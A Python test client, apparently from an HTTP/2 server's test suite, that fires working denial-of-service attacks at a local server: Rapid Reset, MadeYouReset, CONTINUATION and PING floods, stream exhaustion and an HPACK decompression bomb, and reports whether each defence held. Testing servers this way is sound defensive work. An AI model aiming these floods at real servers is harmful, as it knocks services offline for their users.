#!/usr/bin/python3
"""HTTP/2 abuse clients for h2_abuse_test.sh (python3-hyperframe/hpack).

    h2_attack.py PORT ATTACK PATH [--tls]

--tls speaks TLS with ALPN h2 (the server certificate is not checked).

ATTACK is one of:
  rapid_reset   open streams and cancel each at once (CVE-2023-44487),
                up to 5000 of them
  made_you_reset  open streams and make the server reset each at once with
                an invalid request (content-length 1 and no body;
                CVE-2025-8671), up to 5000 of them: no RST_STREAM from the
                client to count
  continuation  one HEADERS without END_HEADERS, then up to 10000
                CONTINUATION frames (CVE-2024-27316 family)
  settings      SETTINGS frames of 100 entries each
  streams       more concurrent streams than the server allows, never read
  ping          up to 2,000,000 PING frames without reading one ACK (the
                socket's receive buffer is made small, so the ACKs pile up
                in the server)
  settings_ack  the same with empty SETTINGS frames
  many_headers  a request of 3000 small headers (over HEADERS and
                CONTINUATION), then a normal request on the same connection
  hpack_bomb    a request that puts one 4000-byte header in the HPACK table
                and then refers to it 10000 times (1 byte each: 40 MB once
                decoded), then a normal request on the same connection
  huge_value    a request with one 100 KiB header value spread over
                CONTINUATION frames, then a normal request
  split_headers a normal request whose small header block is split into
                HEADERS and 5 CONTINUATION frames (not an attack: allowed
                unless max_continuation_frames is below 5)

Prints one line: "goaway <error code name> (last stream <id>)" when the
server sent GOAWAY (the id is the last stream the server processed),
"closed" when it closed without one, "refused <n>" for refused streams,
"status <s> then <s>" for the header attacks when the connection survived
them (the bad request's status, then the normal request's; split_headers
prints "status <s>"), "stalled" when
the server stopped reading and never closed, or "survived" when the attack
ran out without any of that (a failed defence). Flood attacks append
"after <n> frames".
"""
import socket
import ssl
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM",
          8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
MAX_FRAME = 16384


class Conn:
    def __init__(self, port, tls=False, rcvbuf=None):
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            # Before connect, so the advertised window stays small.
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.settimeout(30)
        raw.connect(("127.0.0.1", port))
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname="localhost")
            if raw.selected_alpn_protocol() != "h2":
                raise SystemExit("no h2 over TLS (ALPN %r)" % raw.selected_alpn_protocol())
        self.sock = raw
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.buf = b""
        self.result = None
        self.refused = 0
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.status = {}  # stream id -> response :status
        # The server's SETTINGS is read and ACKed before any attack: poll()
        # ACKs it whenever it comes, and an ACK that lands inside a header
        # block under attack is a PROTOCOL_ERROR of our own making (seen
        # when a loaded machine delayed the server's SETTINGS).
        self.settings_seen = False
        for _ in range(30):
            if self.settings_seen or not self.poll(block=True):
                break

    def send(self, frame):
        return self.send_raw(frame.serialize())

    def send_raw(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def poll(self, block=False):
        """Reads what is there; returns False once the result is known."""
        self.sock.setblocking(block)
        if block:
            self.sock.settimeout(10)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.result = self.result or "closed"
                    return False
                self.buf += data
                while len(self.buf) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                    if len(self.buf) < 9 + length:
                        break
                    frame.parse_body(memoryview(self.buf[9:9 + length]))
                    self.buf = self.buf[9 + length:]
                    if isinstance(frame, GoAwayFrame):
                        self.result = "goaway %s (last stream %d)" % (
                            ERRORS.get(frame.error_code, str(frame.error_code)),
                            frame.last_stream_id)
                        return False
                    if isinstance(frame, RstStreamFrame) and frame.error_code == 7:
                        self.refused += 1
                    if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                        self.send(SettingsFrame(0, flags=["ACK"]))
                        self.settings_seen = True
                    if isinstance(frame, HeadersFrame):
                        for name, value in self.decoder.decode(frame.data):
                            if name in (b":status", ":status"):
                                self.status[frame.stream_id] = int(value)
                if not block:
                    continue
                return True
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            return True
        except OSError:
            self.result = self.result or "closed"
            return False
        finally:
            self.sock.setblocking(True)
            self.sock.settimeout(30)

    def drain(self):
        while self.poll(block=True):
            pass

    def wait_status(self, stream, deadline_s=30):
        """Reads until `stream` has a status or the connection ends."""
        deadline = time.monotonic() + deadline_s
        while stream not in self.status and time.monotonic() < deadline:
            if not self.poll(block=True):
                break
        return self.status.get(stream)

    def request_headers(self, path, extra=()):
        return self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                                    (":authority", "localhost")] + list(extra))

    def send_block(self, stream, block, frame_size=MAX_FRAME):
        """One header block: HEADERS, then CONTINUATION frames as needed."""
        chunks = [block[i:i + frame_size] for i in range(0, len(block), frame_size)] or [b""]
        flags = ["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else [])
        ok = self.send(HeadersFrame(stream, chunks[0], flags=flags))
        for i, chunk in enumerate(chunks[1:], start=2):
            flags = ["END_HEADERS"] if i == len(chunks) else []
            ok = ok and self.send(ContinuationFrame(stream, chunk, flags=flags))
        return ok


def headers_block(path):
    return Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                             (":authority", "localhost")])


def flood(conn, frame, count, batch=1000):
    """Sends `count` copies of `frame` without reading; returns how many
    went out before the server closed, or stopped reading for 30 s."""
    chunk = frame * batch
    sent = 0
    while sent < count:
        try:
            conn.sock.sendall(chunk)
        except socket.timeout:
            conn.result = conn.result or "stalled"
            break
        except OSError:
            break
        sent += batch
    return sent


def then_normal(conn, path, bad_status):
    """After a bad request on stream 1: a normal one on stream 3."""
    if conn.result is not None:
        return
    conn.send_block(3, conn.request_headers(path))
    good = conn.wait_status(3)
    if conn.result is None:
        conn.result = "status %s then %s" % (bad_status, good)


def main():
    port, attack, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    tls = "--tls" in sys.argv[4:]
    conn = Conn(port, tls=tls, rcvbuf=4096 if attack in ("ping", "settings_ack") else None)
    suffix = ""
    if attack == "rapid_reset":
        for i in range(5000):
            stream = 1 + 2 * i
            ok = conn.send(HeadersFrame(stream, headers_block(path), flags=["END_HEADERS", "END_STREAM"]))
            ok = ok and conn.send(RstStreamFrame(stream, error_code=8))
            if not ok or not conn.poll():
                break
    elif attack == "made_you_reset":
        for i in range(5000):
            stream = 1 + 2 * i
            # A declared body that never comes: the request is complete as
            # far as its headers go, then a stream error (PROTOCOL_ERROR).
            block = Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                                      (":authority", "localhost"), ("content-length", "1")])
            ok = conn.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
            if not ok or not conn.poll():
                break
    elif attack == "continuation":
        block = headers_block(path)
        conn.send(HeadersFrame(1, block, flags=["END_STREAM"]))
        for _ in range(10000):
            if not conn.send(ContinuationFrame(1, b"\x40\x01x\x01y")) or not conn.poll():
                break
    elif attack == "settings":
        for _ in range(2000):
            frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
            frame.settings = {}
            body = b"".join((3).to_bytes(2, "big") + (100).to_bytes(4, "big") for _ in range(100))
            raw = len(body).to_bytes(3, "big") + b"\x04\x00" + (0).to_bytes(4, "big") + body
            try:
                conn.sock.sendall(raw)
            except OSError:
                break
            if not conn.poll():
                break
    elif attack == "streams":
        for i in range(1000):
            if not conn.send(HeadersFrame(1 + 2 * i, headers_block(path),
                                          flags=["END_HEADERS", "END_STREAM"])) or not conn.poll():
                break
    elif attack in ("ping", "settings_ack"):
        frame = (PingFrame(0, opaque_data=b"floodppp") if attack == "ping" else SettingsFrame(0))
        sent = flood(conn, frame.serialize(), 2000000)
        suffix = " after %d frames" % sent
        if sent >= 2000000:
            conn.result = conn.result or "survived"
    elif attack == "many_headers":
        extra = [("x-h%d" % i, "v") for i in range(3000)]
        conn.send_block(1, conn.request_headers(path, extra))
        then_normal(conn, path, conn.wait_status(1))
    elif attack == "hpack_bomb":
        # The encoder indexes the big header (the last entry added, so index
        # 62 on both sides); 0xbe is "indexed header field 62".
        block = conn.request_headers(path, [("x-bomb", "b" * 4000)]) + b"\xbe" * 10000
        conn.send_block(1, block)
        then_normal(conn, path, conn.wait_status(1))
    elif attack == "split_headers":
        block = conn.request_headers(path)
        conn.send_block(1, block, frame_size=len(block) // 6 + 1)
        status = conn.wait_status(1)
        if conn.result is None:
            conn.result = "status %s" % status
    elif attack == "huge_value":
        block = conn.request_headers(path, [("x-huge", "h" * (100 * 1024))])
        conn.send_block(1, block)
        then_normal(conn, path, conn.wait_status(1))
    else:
        raise SystemExit("unknown attack " + attack)
    if conn.result is None:
        conn.drain()
    if conn.result is None and attack == "streams" and conn.refused:
        conn.result = "refused %d" % conn.refused
    print((conn.result or "survived") + suffix, flush=True)


if __name__ == "__main__":
    main()
